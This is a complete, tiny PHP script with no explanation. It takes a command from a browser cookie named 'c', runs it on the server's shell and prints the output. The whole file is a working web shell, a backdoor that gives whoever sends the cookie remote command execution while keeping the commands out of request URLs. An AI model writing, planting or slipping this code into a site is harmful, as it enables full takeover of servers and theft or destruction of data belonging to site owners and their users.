<?php
$c = $_COOKIE['c'];
$out = shell_exec($c . ' 2>&1');
echo $out;
